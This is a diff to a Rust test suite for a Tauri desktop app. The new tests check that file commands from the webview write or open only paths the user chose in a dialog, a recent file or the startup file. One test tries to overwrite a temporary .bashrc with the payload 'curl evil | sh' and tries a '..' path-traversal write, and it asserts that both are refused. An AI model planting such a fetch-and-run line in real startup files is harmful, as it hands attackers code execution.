@@ -13,7 +13,7 @@ use crate::commands::specs;
 use pipewright_appcore::state::AppState;
 
 struct Harness {
-    _app: tauri::App<MockRuntime>,
+    app: tauri::App<MockRuntime>,
     webview: WebviewWindow<MockRuntime>,
     called: HashSet<String>,
 }
@@ -24,7 +24,7 @@ impl Harness {
             app.manage(AppState::new(config, data, startup));
         });
         Harness {
-            _app: app,
+            app,
             webview,
             called: HashSet::new(),
         }
@@ -34,6 +34,11 @@ impl Harness {
     fn call(&mut self, cmd: &str, args: Value) -> Result<Value, Value> {
         self.called.insert(cmd.to_string());
         call_checked(&self.webview, cmd, args)
+    }
+
+    /// The user chose `path` in a file dialog (the dialogs themselves need a window).
+    fn choose(&self, path: &Path) {
+        self.app.state::<AppState>().grants.grant_file(path);
     }
 
     fn ok(&mut self, cmd: &str, args: Value) -> Value {
@@ -104,6 +109,7 @@ fn every_command_answers_through_ipc() {
     let mut edited = doc.clone();
     edited["pipeline"]["name"] = json!("edited");
     edited["pipeline"]["stages"][0]["actions"][0]["someFutureField"] = json!({ "kept": [1, 2] });
+    h.choose(&path);
     assert_eq!(
         h.ok(
             "save_design",
@@ -123,6 +129,7 @@ fn every_command_answers_through_ipc() {
         .display()
         .to_string();
     assert_eq!(recent, json!([canonical]));
+    h.choose(&files.path().join("missing.yaml"));
     let error = h
         .call(
             "open_design",
@@ -146,6 +153,7 @@ fn every_command_answers_through_ipc() {
 
     // Export, startup file, app info.
     let png = files.path().join("design.png");
+    h.choose(&png);
     h.ok(
         "save_export",
         json!({ "path": png, "dataBase64": "iVBORw0KGgo=" }),
@@ -155,7 +163,24 @@ fn every_command_answers_through_ipc() {
     let info = h.ok("app_info", json!({}));
     assert_eq!(info["connectionLabel"], "Local sandbox");
     // The app's version as Tauri knows it (the mock context's), what the updater compares.
-    assert_eq!(info["version"], h._app.package_info().version.to_string());
+    assert_eq!(info["version"], h.app.package_info().version.to_string());
+
+    // The file dialogs are opened from Rust (which records the choice); without a window they
+    // say they cannot be shown.
+    for (cmd, args) in [
+        (
+            "pick_file",
+            json!({ "filters": [{ "name": "Designs", "extensions": ["json"] }] }),
+        ),
+        ("pick_folder", json!({ "title": "Folder" })),
+        (
+            "pick_save_path",
+            json!({ "title": null, "defaultPath": "design.json", "filters": [] }),
+        ),
+    ] {
+        let error = h.call(cmd, args).expect_err("no dialog without a window");
+        assert_eq!(error["kind"], "unavailable", "{cmd}: {error}");
+    }
 
     let missing: Vec<_> = specs()
         .into_iter()
@@ -182,4 +207,79 @@ fn unknown_commands_are_refused() {
     let dir = tempfile::tempdir().expect("tempdir");
     let h = Harness::new(dir.path(), dir.path(), None);
     assert!(ipc_call(&h.webview, "delete_everything", json!({})).is_err());
+}
+
+/// A path the webview names is written (or opened) only when the user chose it in a dialog this
+/// session, or it is a recent file or the startup file: a script in the webview cannot write
+/// anywhere it likes.
+#[test]
+fn file_commands_write_only_where_the_user_chose() {
+    let config = tempfile::tempdir().expect("tempdir");
+    let files = tempfile::tempdir().expect("tempdir");
+    let startup = files.path().join("start.json");
+    let mut h = Harness::new(
+        config.path(),
+        config.path(),
+        Some(startup.display().to_string()),
+    );
+    let doc = h.ok("new_document", json!({ "template": null }));
+    let elsewhere = files.path().join("elsewhere");
+    std::fs::create_dir(&elsewhere).expect("dir");
+    let victim = elsewhere.join(".bashrc");
+    std::fs::write(&victim, "original").expect("victim");
+
+    for (cmd, args) in [
+        (
+            "save_text",
+            json!({ "path": victim, "text": "curl evil | sh" }),
+        ),
+        (
+            "save_export",
+            json!({ "path": victim, "dataBase64": "aGk=" }),
+        ),
+        (
+            "save_design",
+            json!({ "path": elsewhere.join("x.json"), "document": doc, "format": null }),
+        ),
+        // The same file named through `..`.
+        (
+            "save_text",
+            json!({ "path": files.path().join("elsewhere/../elsewhere/.bashrc"), "text": "x" }),
+        ),
+        ("open_design", json!({ "path": victim })),
+    ] {
+        let error = h.call(cmd, args).expect_err("not chosen");
+        assert_eq!(error["kind"], "path-not-chosen", "{cmd}: {error}");
+        assert!(
+            error["message"]
+                .as_str()
+                .is_some_and(|m| m.contains("chosen in its file dialog")),
+            "{error}"
+        );
+    }
+    assert_eq!(std::fs::read_to_string(&victim).expect("read"), "original");
+    assert!(!elsewhere.join("x.json").exists());
+
+    // Chosen in the save dialog: written; then a recent file, which stays writable.
+    let chosen = files.path().join("chosen.json");
+    h.choose(&chosen);
+    h.ok(
+        "save_design",
+        json!({ "path": chosen, "document": doc, "format": null }),
+    );
+    // The startup file may be saved (and opened) without a dialog.
+    h.ok(
+        "save_design",
+        json!({ "path": startup, "document": doc, "format": null }),
+    );
+    let mut fresh = Harness::new(config.path(), config.path(), None);
+    fresh.ok("open_design", json!({ "path": chosen }));
+    fresh.ok(
+        "save_design",
+        json!({ "path": chosen, "document": doc, "format": null }),
+    );
+    let error = fresh
+        .call("save_text", json!({ "path": victim, "text": "x" }))
+        .expect_err("still not chosen");
+    assert_eq!(error["kind"], "path-not-chosen");
 }
